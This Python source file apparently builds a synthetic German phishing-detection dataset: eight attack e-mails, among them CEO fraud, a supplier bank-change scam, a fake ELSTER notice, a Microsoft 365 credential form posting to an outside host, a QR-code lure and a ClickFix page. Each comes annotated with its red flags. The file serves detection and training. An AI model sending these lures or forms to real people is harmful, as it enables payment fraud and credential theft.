"""Attack messages 01-08 (German)."""
from common import T, addr, text, attach, attach_text, multi, boundary, plain, esc, H, ALNUM, local
from company import E, A, MID, TI, IBAN_A02, IBAN_A06, IBAN_LIEFERANT_OLD
from reg import attack, alt, mixed, related, pdf_att
import infra
import finance as fi
import docs
import qr
import base64

LIEF_SIG = ('Lieferant GmbH\nKunststoffverpackungen für Kosmetik und Pharma\n'
            'Werkstraße 14 · 58509 Lüdenscheid\nTel. +49 2351 9873-0 · www.lieferant-gmbh.de\n'
            'Geschäftsführer: Dipl.-Ing. Rainer Lang · Amtsgericht Iserlohn HRB 4711')


@attack(1, 'de', 'ceo-fraud-akquisition',
        'CEO fraud opener: "Katharina Wendt" asks the CFO for secrecy about an acquisition, announces a '
        'London lawyer and asks for today\'s available liquidity.',
        'Look-alike domain exarnple.com ("rn" for "m") on a Hetzner VPS, Roundcube login from a VPN exit; '
        'secrecy ("not even accounting or IT"), phone contact refused, authority handed to an external '
        '"lawyer" (see 14). Real CEO mail arrives via the internal relay (business 01).')
def a01(m):
    t = T(2026, 10, 15, 7, 52, 14)
    sender = 'katharina.wendt@exarnple.com'
    f = dict(sender=sender, rcpt=E('cfo'), frm=addr('Katharina Wendt', sender), to=A('cfo', 'utf-8'),
             subject='Vertraulich – Projekt Lavendel', zone='DE',
             x=[('X-Sender', sender)])
    infra.postfix_host(m, t, f, 'mail.exarnple.com', 'static.120.77.99.88.clients.your-server.de',
                       '88.99.77.120', '185.213.155.164', ua=infra.UA_RC, mid_style='roundcube')
    body = """Hallo Herr Höfer,

sind Sie heute im Haus? Ich brauche in einer vertraulichen Angelegenheit kurzfristig Ihre Unterstützung.

Wie Sie wissen, sprechen wir seit dem Sommer mit mehreren Naturkosmetik-Marken über eine mögliche Übernahme. Mit einer davon (spanischer Hersteller, Bio-Sonnenpflege) sind wir jetzt in der finalen Phase, das Signing ist für Ende nächster Woche geplant. Bis zur Veröffentlichung darf außer Ihnen und mir niemand im Haus davon wissen – auch nicht die Buchhaltung und nicht die IT.

Die Abwicklung läuft über die Kanzlei Harrington Cole LLP in London. Herr Edward Harrington wird sich heute noch per E-Mail bei Ihnen melden und Ihnen die Details zur Anzahlung auf das Treuhandkonto schicken. Bitte behandeln Sie seine Anweisungen wie meine eigenen.

Ich sitze den ganzen Tag in Verhandlungen und bin telefonisch nicht erreichbar. Bitte kommunizieren Sie zu diesem Thema ausschließlich per E-Mail mit mir und Herrn Harrington. Schicken Sie mir bitte vorab kurz, welcher Betrag heute auf unseren Geschäftskonten verfügbar ist, damit ich das mit der Gegenseite abstimmen kann.

Danke für Ihre Diskretion.

Katharina Wendt
Geschäftsführerin
Example Group GmbH
"""
    m.body = text(body, 'UTF-8', 'quoted-printable', params=['format=flowed'], ct_quote=False)


@attack(2, 'de', 'lieferant-neue-bankverbindung',
        'Supplier bank-detail change: "Petra Lang" of Lieferant GmbH announces a factoring account in '
        'Lithuania and asks AP to pay two open invoices there, with a signed-looking PDF letter.',
        'Sent from look-alike lieferant-gmhb.de (letters swapped) hosted as its own Microsoft 365 tenant, '
        'not from lieferant-gmbh.de; new account at a foreign e-money institution in a third party\'s '
        'name; deadline on open invoices; asks for confirmation by e-mail only. The genuine change '
        '(business 02) comes from the real domain and asks for a call-back.')
def a02(m):
    t = T(2026, 10, 20, 8, 17, 40)
    sender = 'p.lang@lieferant-gmhb.de'
    f = dict(sender=sender, rcpt=E('ap'), frm=addr('Petra Lang', sender, 'iso-8859-1'), to=A('ap'),
             subject='Änderung unserer Bankverbindung / offene Posten Oktober', scs=('iso-8859-1', 'Q'))
    st = infra.m365(m, t, f, 'lieferant-gmhb.de', 'AM8PR09MB5124', 'eurprd09',
                    ('EUR02-DB5-obe', 'mail-db5eur02on2118', '40.107.11.118'), attach=True)
    iban = fi.fmt_iban(IBAN_A02)
    body = """Sehr geehrte Frau Krüger,

im Zuge der Umstellung unseres Forderungsmanagements auf ein Factoring-Verfahren werden Zahlungen ab sofort über das Treuhandkonto unseres Factoring-Partners abgewickelt. Das bisherige Konto bei der Sparkasse Lüdenscheid wird zum 31.10.2026 für eingehende Zahlungen geschlossen.

Bitte hinterlegen Sie für die Lieferant GmbH (Ihre Kreditorennummer 70114) ab sofort die folgende Bankverbindung:

Kontoinhaber: Finora Capital UAB - Treuhand Lieferant GmbH
IBAN: %s
BIC: REVOLT21

Die offizielle Mitteilung mit Unterschrift der Geschäftsführung finden Sie im Anhang.

Betroffen sind bereits die noch offenen Rechnungen RE-2026-10451 (18.420,60 EUR) und RE-2026-10488 (9.874,15 EUR), die diese Woche fällig werden. Wir bitten um Überweisung auf das neue Konto bis Freitag, damit unser Mahnlauf nicht greift. Bitte senden Sie mir nach Änderung der Stammdaten eine kurze Bestätigung per E-Mail.

Für Rückfragen erreichen Sie mich am besten per E-Mail, da ich diese Woche überwiegend in Abstimmungen zum Jahresabschluss bin.

Mit freundlichen Grüßen

Petra Lang
Finanzbuchhaltung

%s
""" % (iban, LIEF_SIG)
    pdf = docs.letter(
        ['Lieferant GmbH', 'Kunststoffverpackungen für Kosmetik und Pharma',
         'Werkstraße 14 · 58509 Lüdenscheid · Tel. +49 2351 9873-0 · www.lieferant-gmbh.de'],
        ['Example Group GmbH', 'Kreditorenbuchhaltung', 'Am Kosmetikpark 7', '41468 Neuss'],
        'Lüdenscheid, 19.10.2026', 'Mitteilung über die Änderung unserer Bankverbindung',
        ['Sehr geehrte Damen und Herren,',
         '',
         'wir informieren Sie hiermit, dass die Lieferant GmbH ihre Forderungen ab dem 20.10.2026 an unseren '
         'Factoring-Partner Finora Capital UAB abgetreten hat. Zahlungen mit schuldbefreiender Wirkung können '
         'ab diesem Datum ausschließlich auf das folgende Treuhandkonto geleistet werden:',
         '',
         'Kontoinhaber: Finora Capital UAB - Treuhand Lieferant GmbH',
         'IBAN: ' + iban,
         'BIC: REVOLT21',
         '',
         'Die bisherige Bankverbindung bei der Sparkasse Lüdenscheid wird zum 31.10.2026 für Zahlungseingänge '
         'geschlossen. Bitte passen Sie Ihre Stammdaten umgehend an.',
         '',
         'Wir danken Ihnen für die gute Zusammenarbeit.'],
        ['Mit freundlichen Grüßen', '', 'i.V. Petra Lang', 'Finanzbuchhaltung'],
        ['Lieferant GmbH · Sitz Lüdenscheid · Amtsgericht Iserlohn HRB 4711 · USt-IdNr. DE126150438',
         'Geschäftsführer: Dipl.-Ing. Rainer Lang'], t, title='Mitteilung Bankverbindung', author='Petra Lang',
        sender_line='Lieferant GmbH · Werkstraße 14 · 58509 Lüdenscheid')
    m.body = mixed(m, st, alt(m, st, body, 'iso-8859-1'),
                   pdf_att(pdf, 'Mitteilung_Bankverbindung_Lieferant_GmbH.pdf'))


ELSTER_HTML = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>Mein ELSTER</title></head>
<body style="margin:0;background:#eef1f4;font-family:Arial,Helvetica,sans-serif;color:#1b1b1b">
<table width="100%%" cellpadding="0" cellspacing="0" style="background:#eef1f4"><tr><td align="center">
<table width="620" cellpadding="0" cellspacing="0" style="background:#ffffff;margin:24px 0">
<tr><td style="background:#003a6c;padding:18px 28px;color:#ffffff;font-size:22px;font-weight:bold">
ELSTER <span style="font-weight:normal;font-size:14px">Ihr Online-Finanzamt</span></td></tr>
<tr><td style="padding:28px;font-size:14px;line-height:21px">
<p>Sehr geehrte Damen und Herren,</p>
<p>in Ihrem Postfach bei Mein ELSTER liegt eine neue Nachricht für Sie bereit:</p>
<table cellpadding="4" style="font-size:14px;background:#f4f6f8;border-left:4px solid #003a6c">
<tr><td>Absender:</td><td><b>Finanzamt Neuss</b></td></tr>
<tr><td>Betreff:</td><td>Festsetzung von Säumniszuschlägen nach § 240 AO – Umsatzsteuer-Voranmeldung 09/2026</td></tr>
<tr><td>Steuernummer:</td><td>122/5734/0918</td></tr>
<tr><td>Bereitgestellt am:</td><td>21.10.2026</td></tr></table>
<p>Aus Sicherheitsgründen enthält diese E-Mail keine Inhalte des Bescheids. Bitte melden Sie sich mit Ihrem
Organisationszertifikat an, um die Nachricht abzurufen. Die Einspruchsfrist von einem Monat beginnt mit dem
dritten Tag nach der Bereitstellung.</p>
<p style="text-align:center;margin:26px 0"><a href="%(url)s" style="background:#003a6c;color:#ffffff;
padding:12px 26px;text-decoration:none;font-weight:bold">Zur Nachricht in Mein ELSTER</a></p>
<p>Mit freundlichen Grüßen<br>Ihr ELSTER-Team</p></td></tr>
<tr><td style="padding:14px 28px;font-size:11px;color:#666;border-top:1px solid #dde2e7">Dies ist eine automatisch
erzeugte E-Mail. Bitte antworten Sie nicht auf diese Nachricht.</td></tr>
</table></td></tr></table>
<img src="%(px)s" width="1" height="1" alt="" style="display:none">
</body></html>
"""


@attack(3, 'de', 'elster-saeumniszuschlag',
        'Fake "new message in your ELSTER mailbox" about late-payment surcharges on the September VAT '
        'return, with a button to log in with the organisation certificate.',
        'ELSTER notices come from elster.de; this one is a SendGrid campaign from elster-nachrichten.de '
        'with click-tracked links to a page that collects the ELSTER certificate file and PIN. Urgency '
        '(objection deadline) and tax-surcharge pretext aimed at the CFO.')
def a03(m):
    t = T(2026, 10, 21, 5, 3, 9)
    sender = 'benachrichtigung@elster-nachrichten.de'
    f = dict(sender=sender, rcpt=E('cfo'), frm=addr('Mein ELSTER', sender), to=E('cfo'),
             subject='Neue Nachricht in Ihrem ELSTER-Postfach – Festsetzung Säumniszuschläge USt 09/2026')
    infra.sendgrid(m, t, f, '149.72.183.44', 'o1.ptr8815.elster-nachrichten.de', 'em8815.elster-nachrichten.de')
    url = 'https://url8815.elster-nachrichten.de/ls/click?upn=u001.' + H(m.seed('u'), 150, ALNUM + '-') + '-2Bk'
    px = 'https://u8815.ct.sendgrid.net/wf/open?upn=u001.' + H(m.seed('p'), 90, ALNUM + '-')
    src = """Sehr geehrte Damen und Herren,

in Ihrem Postfach bei Mein ELSTER liegt eine neue Nachricht für Sie bereit:

Absender: Finanzamt Neuss
Betreff: Festsetzung von Säumniszuschlägen nach § 240 AO – Umsatzsteuer-Voranmeldung 09/2026
Steuernummer: 122/5734/0918
Bereitgestellt am: 21.10.2026

Aus Sicherheitsgründen enthält diese E-Mail keine Inhalte des Bescheids. Bitte melden Sie sich mit Ihrem Organisationszertifikat an, um die Nachricht abzurufen. Die Einspruchsfrist von einem Monat beginnt mit dem dritten Tag nach der Bereitstellung.

Zur Nachricht in Mein ELSTER: %s

Mit freundlichen Grüßen
Ihr ELSTER-Team

Dies ist eine automatisch erzeugte E-Mail. Bitte antworten Sie nicht auf diese Nachricht.
""" % url
    m.body = multi('alternative', [text(src, 'utf-8', 'quoted-printable'),
                                   text(ELSTER_HTML % dict(url=esc(url), px=esc(px)), 'utf-8', 'quoted-printable', 'html')],
                   boundary('hex', m.seed('alt')))


XR_HTML = """<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="iso-8859-1">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>E-Rechnung anzeigen - XRechnung Viewer</title>
<style>
body{margin:0;background:#f3f2f1;font-family:"Segoe UI",Arial,sans-serif}
.card{width:420px;margin:70px auto;background:#fff;padding:36px 44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.doc{border:1px solid #e1dfdd;padding:10px 12px;margin:16px 0;font-size:13px;color:#323130}
input{width:100%%;padding:8px 4px;margin:6px 0 14px;border:none;border-bottom:1px solid #666;font-size:15px}
button{background:#0067b8;color:#fff;border:0;padding:9px 34px;font-size:15px;float:right}
</style>
</head>
<body>
<div class="card">
<img alt="Microsoft" width="108" height="24" src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg">
<h2 style="font-weight:600;font-size:22px">Anmelden, um die E-Rechnung anzuzeigen</h2>
<div class="doc"><b>XRechnung_RE-2026-0457.xml</b><br>Malerbetrieb Krämer GmbH &middot; 12.840,55 EUR &middot; 3 Seiten</div>
<p style="font-size:13px">Dieses Dokument wurde Ihnen über einen geschützten Link freigegeben. Bestätigen Sie Ihr Firmenkonto, um die Visualisierung zu laden.</p>
<form method="post" action="%s">
<input type="email" name="login" value="%s" placeholder="E-Mail, Telefon oder Skype">
<input type="password" name="passwd" placeholder="Kennwort">
<input type="hidden" name="doc" value="RE-2026-0457">
<button type="submit">Anmelden</button>
</form>
<p style="clear:both;font-size:11px;color:#666;padding-top:24px">Visualisierung gem&auml;&szlig; EN 16931 &middot; KoSIT Prüftool 1.5</p>
</div>
</body>
</html>
"""


@attack(4, 'de', 'xrechnung-html-anhang',
        'E-invoice lure from a (compromised) painting company: "XRechnung" attached as a web view; the HTML '
        'is a Microsoft 365 login form pre-filled with the recipient\'s address.',
        'No business relation; the attachment is not an XRechnung XML but a credential form posting to '
        'an unrelated host. Sent through the firm\'s real IONOS mailbox (account takeover) but from a '
        'hosting-provider IP, Outlook signature copied. E-invoicing (B2B mandate since 2025) as pretext.')
def a04(m):
    t = T(2026, 10, 22, 12, 41, 27)
    sender = 'buero@maler-kraemer-bochum.de'
    f = dict(sender=sender, rcpt=E('ap'), frm=addr('Malerbetrieb Krämer GmbH', sender, 'iso-8859-1'),
             to=A('ap'), subject='Rechnung 2026-0457 als E-Rechnung (XRechnung)')
    st = infra.ionos(m, t, f, '45.87.154.19')
    body = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung Nr. 2026-0457 als elektronische Rechnung im Format XRechnung gemäß § 14 UStG.

Da die strukturierten Rechnungsdaten (XML) nicht von allen E-Mail-Programmen korrekt dargestellt werden, haben wir Ihnen die Visualisierung als Webansicht beigefügt. Bitte öffnen Sie die Datei im Browser und bestätigen Sie den Empfang mit Ihrem Firmenkonto.

Bei Fragen stehen wir Ihnen gerne zur Verfügung.

Mit freundlichen Grüßen

Dirk Krämer
Malerbetrieb Krämer GmbH
Herner Straße 211
44809 Bochum
Tel. 0234 5871 330
www.maler-kraemer-bochum.de
"""
    post = 'https://xr-viewer.cdn-eu-docs.com/s/%s/auth.php' % H(m.seed('x'), 10)
    html = XR_HTML % (post, E('ap'))
    m.body = mixed(m, st, alt(m, st, body, 'iso-8859-1'),
                   attach_text(html, 'text/html', 'XRechnung_RE-2026-0457.html', 'iso-8859-1', 'base64'))


@attack(5, 'de', 'quishing-gehaltsanpassung',
        '"HR" asks a sales employee to confirm her 2027 salary adjustment by scanning a QR code and logging '
        'in with Microsoft 365 credentials on the phone.',
        'Not internal mail (no internal relay) but a Brevo campaign from hr-portal-mitarbeiterservice.de; '
        'the URL is hidden in a QR image (real, decodable) pointing to the look-alike '
        'mitarbeiterportal-examplegroup.com with the victim\'s address encoded; moves the victim to an '
        'unmanaged phone. Genuine payroll notice: business 06.')
def a05(m):
    t = T(2026, 10, 26, 7, 12, 55)
    sender = 'personal@hr-portal-mitarbeiterservice.de'
    f = dict(sender=sender, rcpt=E('sales'), frm=addr('Personalabteilung | Example Group', sender, quote=True),
             to=A('sales', 'utf-8'), subject='Entgeltabrechnung: Bestätigung Ihrer Gehaltsanpassung 2027 erforderlich')
    infra.brevo(m, t, f)
    eb = base64.urlsafe_b64encode(E('sales').encode()).decode().rstrip('=')
    url = 'https://mitarbeiterportal-examplegroup.com/entgelt/?e=' + eb
    png = qr.qr_png(url, 6)
    cid = 'qr_%s@brevo' % H(m.seed('cid'), 10)
    src = """Guten Tag Frau Hoffmann,

im Rahmen der jährlichen Gehaltsrunde wurden die Vergütungsdaten für 2027 in Ihrem Mitarbeiterkonto hinterlegt. Bitte prüfen Sie Ihre neue Vergütungsübersicht und bestätigen Sie diese bis zum 30.10.2026, damit die Anpassung mit der Entgeltabrechnung Januar 2027 wirksam werden kann.

Aus Datenschutzgründen ist das Dokument nur über die mobile Authentifizierung abrufbar. Scannen Sie dazu den QR-Code mit der Kamera Ihres Smartphones und melden Sie sich mit Ihren gewohnten Microsoft-365-Zugangsdaten an.

Ohne Bestätigung wird Ihre bisherige Vergütung unverändert fortgeführt.

Mit freundlichen Grüßen
Ihre Personalabteilung
Example Group GmbH
"""
    paras = src.strip().split('\n\n')
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">'
            '<div style="max-width:560px;margin:0 auto;padding:20px;border-top:4px solid #7a1f5c">'
            '<p style="font-size:18px;color:#7a1f5c"><b>Example Group</b> &middot; Mitarbeiterservice</p>'
            + ''.join('<p>%s</p>' % esc(p).replace('\n', '<br>') for p in paras[:3]) +
            '<p style="text-align:center"><img src="cid:%s" width="180" height="180" alt="QR-Code"></p>'
            '<p style="text-align:center;font-size:12px;color:#666">Code gültig bis 30.10.2026</p>' % cid
            + ''.join('<p>%s</p>' % esc(p).replace('\n', '<br>') for p in paras[3:]) +
            '</div></body></html>')
    img = attach(png, 'image/png', 'qrcode.png', 'base64', disposition='inline', cid=cid)
    rel = related(m, 'hex', text(html, 'utf-8', 'quoted-printable', 'html'), img)
    m.body = multi('alternative', [text(src, 'utf-8', 'quoted-printable'), rel], boundary('hex', m.seed('alt')))


@attack(6, 'de', 'gewerbeverzeichnis-rechnung',
        'Offer disguised as an invoice: "Deutsches Handels- und Gewerbeverzeichnis" demands 949,62 EUR for '
        'a register entry, PDF payment form attached.',
        'A private directory imitating the commercial register; the small print says payment concludes '
        'a contract. No prior order, sent by PHPMailer from an OVH VPS, payee account at a neobank.')
def a06(m):
    t = T(2026, 10, 28, 9, 30, 2)
    sender = 'rechnung@dhv-gewerbeverzeichnis.de'
    f = dict(sender=sender, rcpt=E('ap'), frm=addr('DHV Verzeichnisdienste', sender), to=E('ap'),
             subject='Zahlungsaufforderung Nr. 2026-884137 - Eintragung Example Group GmbH', zone='DE')
    infra.postfix_host(m, t, f, 'mail.dhv-gewerbeverzeichnis.de', 'vps-3c1e8a52.vps.ovh.net', '51.75.146.38',
                       '127.0.0.1', client_rdns='localhost', client_helo='localhost', auth=False,
                       ua=('X-Mailer', 'PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)'),
                       mid_style='phpmailer')
    iban = fi.fmt_iban(IBAN_A06)
    body = """Zahlungsaufforderung Nr. 2026-884137

Firma: Example Group GmbH, Am Kosmetikpark 7, 41468 Neuss
Registergericht: Amtsgericht Neuss, HRB 18342

Sehr geehrte Damen und Herren,

für die Veröffentlichung und Pflege Ihrer Firmendaten im Deutschen Handels- und Gewerbeverzeichnis (Leistungszeitraum 01.11.2026 - 31.10.2027) berechnen wir Ihnen:

Grundeintrag mit Branchenzuordnung "Herstellung von Körperpflegemitteln"   798,00 €
zzgl. 19 %% USt.                                                            151,62 €
Gesamtbetrag                                                               949,62 €

Bitte überweisen Sie den Gesamtbetrag innerhalb von 10 Tagen unter Angabe der Zahlungsaufforderungsnummer:

Empfänger: DHV Verzeichnisdienste
IBAN: %s
Verwendungszweck: 2026-884137

Das Zahlungsformular mit allen Angaben finden Sie im Anhang.

Mit freundlichen Grüßen
DHV Verzeichnisdienste - Abteilung Eintragungen

Hinweis: Die Eintragung erfolgt in ein privates Branchenverzeichnis. Mit Ausgleich der Zahlungsaufforderung kommt der Eintragungsvertrag zustande; eine Verbindung zu amtlichen Registern besteht nicht.
""" % iban
    pdf = docs.invoice(
        ['DHV Deutsches Handels- und Gewerbeverzeichnis', 'Verzeichnisdienste · Postfach 10 14 55 · 10115 Berlin'],
        ['Example Group GmbH', 'Am Kosmetikpark 7', '41468 Neuss'],
        [('Nr.', '2026-884137'), ('Datum', '28.10.2026'), ('Register', 'HRB 18342'), ('Fällig', '07.11.2026')],
        [('1', 'Grundeintrag 2026/2027, Branche 20.42', '1', '798,00 €', '798,00 €')],
        [('Netto', '798,00 €'), ('USt. 19 %', '151,62 €'), ('Gesamt', '949,62 €')],
        ['Bitte überweisen Sie den Betrag auf: DHV Verzeichnisdienste, IBAN ' + iban + ', Verwendungszweck 2026-884137.',
         '',
         'Die Eintragung erfolgt in ein privates Verzeichnis. Durch Zahlung wird das Angebot angenommen. '
         'Laufzeit 12 Monate, Verlängerung um weitere 12 Monate, sofern nicht 3 Monate vor Ablauf gekündigt wird. '
         'Keine Verbindung zum Handelsregister oder zu amtlichen Bekanntmachungen.'],
        ['DHV Verzeichnisdienste · Berlin'], t, title='Zahlungsaufforderung 2026-884137',
        creator='wkhtmltopdf 0.12.6', producer='Qt 4.8.7', doc_title='ZAHLUNGSAUFFORDERUNG')
    m.body = mixed(m, 'phpmailer', text(body, 'iso-8859-15', 'quoted-printable'),
                   attach(pdf, 'application/pdf', 'Zahlungsaufforderung_2026-884137.pdf'))


@attack(7, 'de', 'lieferant-thread-hijack',
        'Reply in the real order thread with Lieferant GmbH from Stefan Maier\'s genuine mailbox: the '
        '"updated order confirmation and price list 2027" sit behind a link to a look-alike SharePoint host.',
        'Account takeover of a real partner: genuine tenant, genuine thread and quoted history, but sent '
        'on a Sunday night, generic wording, and the link leads to lieferantgmbh-my.sharepoint-docs.de '
        '(not sharepoint.com) to harvest credentials. Genuine message in the same thread: business 04.')
def a07(m):
    t = T(2026, 11, 8, 1, 47, 33)
    sender = 's.maier@lieferant-gmbh.de'
    f = dict(sender=sender, rcpt=E('proc'), frm=addr('Stefan Maier', sender), to=A('proc', 'utf-8'),
             subject='AW: Bestellung 4500018873 – Airless-Spender 50 ml',
             topic='Bestellung 4500018873 – Airless-Spender 50 ml', irt=MID['lief_vogel2'],
             refs='%s %s %s' % (MID['lief_order'], MID['lief_ab'], MID['lief_vogel2']),
             thread_index=infra.thread_index_reply(infra.thread_index_reply(TI['lief'], 'x1', 8 * 86400), 'x2', 19 * 86400))
    st = infra.m365(m, t, f, 'lieferant-gmbh.de', 'FR2P281MB1843', 'deup281',
                    ('DEU01-FR2-obe', 'mail-fr2deu01on2101', '40.107.135.101'))
    link = 'https://lieferantgmbh-my.sharepoint-docs.de/:b:/g/personal/s_maier_lieferant-gmbh_de/E%s?e=%s' % (
        H(m.seed('l'), 44, ALNUM), H(m.seed('e'), 6, ALNUM))
    src = """Hallo Herr Vogel,

anbei wie besprochen die aktualisierte Auftragsbestätigung inkl. der neuen Liefertermine für KW 47/48 sowie unsere Preisliste 2027. Die Dokumente liegen aus Datenschutzgründen in unserem gesicherten Dokumentenbereich:

[[AB_4500018873_Preisliste_2027.pdf|%s]]

Bitte bestätigen Sie kurz den Erhalt.

Viele Grüße
Stefan Maier
Vertrieb / Key Account

%s

Von: Markus Vogel <markus.vogel@example.com>
Gesendet: Montag, 2. November 2026 10:14
An: Stefan Maier <s.maier@lieferant-gmbh.de>
Betreff: AW: Bestellung 4500018873 – Airless-Spender 50 ml

Hallo Herr Maier,

danke für die AB. Können Sie prüfen, ob Sie die zweite Teillieferung (24.000 Stück) auf KW 47 vorziehen können? Unsere Abfüllung für die Lindner-Aktion startet am 23.11.

Viele Grüße
Markus Vogel
Einkauf Verpackung & Rohstoffe
Example Group GmbH
""" % (link, LIEF_SIG)
    m.body = alt(m, st, src, 'utf-8')


CLICKFIX_HTML = """<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<title>Dokumentvorschau – Fotos_und_Attest_Wilke.pdf</title>
<style>
body{font-family:-apple-system,"Segoe UI",Roboto,Arial,sans-serif;background:#fff;color:#313131;margin:0}
.wrap{max-width:640px;margin:80px auto;padding:0 24px}
.box{border:1px solid #d9d9d9;border-radius:4px;padding:18px 20px;margin:22px 0;background:#fafafa}
.steps li{margin:10px 0}
kbd{border:1px solid #bbb;border-radius:3px;padding:1px 6px;background:#f2f2f2;font-family:Consolas,monospace}
.foot{font-size:12px;color:#888;margin-top:60px}
</style>
</head>
<body>
<div class="wrap">
<h1 style="font-size:28px;font-weight:500">docs-share.net</h1>
<h2 style="font-size:20px;font-weight:400">Bestätigen Sie, dass Sie ein Mensch sind</h2>
<p>docs-share.net muss die Sicherheit Ihrer Verbindung überprüfen, bevor die Dokumentvorschau geladen wird.</p>
<div class="box">
<b>Verifizierungsschritte</b>
<ol class="steps">
<li>Drücken Sie die Windows-Taste <kbd>&#8862;</kbd> + <kbd>R</kbd></li>
<li>Drücken Sie <kbd>Strg</kbd> + <kbd>V</kbd></li>
<li>Drücken Sie <kbd>Eingabe</kbd>, um die Verifizierung abzuschließen</li>
</ol>
<p style="font-size:13px">Der Verifizierungscode wurde bereits in Ihre Zwischenablage kopiert.</p>
</div>
<p>Ray-ID: 8f2c1a9b7e4d3c21 &middot; Leistung und Sicherheit durch Cloudflare</p>
<p class="foot">Fotos_und_Attest_Wilke.pdf (4 Seiten, 3,8 MB)</p>
</div>
</body>
</html>
"""


@attack(8, 'de', 'clickfix-kundenbeschwerde',
        'Consumer complaint about a skin reaction to a sun fluid; the "photos and medical certificate" are '
        'an HTML file showing a fake Cloudflare check that tells the reader to press Win+R, Ctrl+V, Enter.',
        'ClickFix: the page instructs the user to paste and run a clipboard command (the copy script of the '
        'real campaign is omitted here, the file is inert). Freemail sender, emotional pressure and '
        'lawyer threat; a genuine complaint (business 08) attaches real photos.')
def a08(m):
    t = T(2026, 11, 3, 16, 22, 48)
    sender = 'sandra.wilke77@gmx.de'
    f = dict(sender=sender, rcpt=E('cs'), frm=addr('Sandra Wilke', sender), to=E('cs'),
             subject='Beschwerde: starke Hautreaktion nach Sonnenfluid LSF 50 – Fotos + Attest')
    st = infra.gmx(m, t, f, '154.6.21.93')
    body = """Sehr geehrte Damen und Herren,

ich habe am 3. Oktober in einer Lindner-Filiale Ihr Sonnenfluid LSF 50 sensitiv (Charge L26-0719) gekauft und nach zweimaliger Anwendung im Urlaub einen großflächigen Ausschlag im Gesicht bekommen, mit Schwellung um die Augen. Ich war deswegen beim Hautarzt und musste Kortison nehmen.

Das ärztliche Attest und die Fotos habe ich Ihnen angehängt (wegen der Dateigröße als Online-Vorschau, bitte einfach im Browser öffnen).

Ich erwarte die Erstattung des Kaufpreises und der Arztkosten sowie eine Erklärung, welcher Inhaltsstoff dafür verantwortlich ist. Sollte ich innerhalb von 7 Tagen nichts von Ihnen hören, wende ich mich an die Verbraucherzentrale und an meinen Anwalt.

Mit freundlichen Grüßen
Sandra Wilke
Lortzingstr. 18
45128 Essen
"""
    m.body = mixed(m, 'java', text(body, 'UTF-8', 'quoted-printable'),
                   attach_text(CLICKFIX_HTML, 'text/html', 'Fotos_und_Attest_Wilke.html', 'UTF-8', 'base64'))
